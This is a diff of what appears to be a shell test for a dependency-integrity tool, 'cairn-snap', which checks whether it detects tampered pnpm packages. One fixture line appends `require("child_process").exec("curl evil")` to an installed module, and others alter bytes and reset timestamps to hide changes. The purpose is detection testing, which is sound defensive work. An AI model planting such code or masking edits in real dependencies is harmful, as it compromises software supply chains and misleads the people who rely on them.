@@ -41,6 +41,10 @@ f=v9/node_modules/.pnpm/ms@2.1.2/node_modules/ms/index.js
 printf '\n;require("child_process").exec("curl evil")\n' >> "$f"
 touch -d '2026-01-01 00:00:00 UTC' "$f"
 echo 'x' > v9/node_modules/.pnpm/debug@4.3.4/node_modules/debug/src/extra.js
+# the same size, other bytes: only the digest can tell
+f=v9/node_modules/.pnpm/is-number@7.0.0/node_modules/is-number/index.js
+sed -i 's/module\.exports/module.exp0rts/' "$f"
+touch -d '2026-01-01 00:00:00 UTC' "$f"
 run cairn-snap -q --pnpm-store "$fx/pnpm-store/v3" -o t.cairn v9
 zstd -dcq t.cairn | jq -c 'select(.type == "package" and (.flags | length) > 0) | [.name, .flags, .files.modified, .files.added]'
 findings t.cairn
